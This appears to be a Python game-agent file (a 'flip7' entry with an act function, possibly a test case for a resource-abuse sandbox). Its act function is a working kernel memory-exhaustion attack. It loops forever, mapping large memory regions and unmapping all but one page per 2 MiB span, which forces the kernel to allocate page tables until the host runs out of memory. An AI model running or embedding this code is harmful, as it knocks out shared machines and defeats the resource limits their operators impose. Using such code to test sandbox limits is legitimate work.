"""Has the kernel keep a page of its own tables for every page that it has: twice its memory at no cost to it."""

import ctypes
import mmap

GAMES = ["flip7"]
VERDICT = ["cpu", "memory"]
LIBC = ctypes.CDLL(None)
LIBC.mmap.restype = ctypes.c_void_p
TABLE = 2 << 20  # bytes that one page of a table maps


def act(view):
    size = 24 * TABLE
    while True:
        place = LIBC.mmap(None, ctypes.c_size_t(size), 3, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0)
        for begin in range(-place % TABLE, size - TABLE, TABLE):
            LIBC.munmap(
                ctypes.c_void_p(place + begin + mmap.PAGESIZE), ctypes.c_size_t(TABLE - mmap.PAGESIZE)
            )
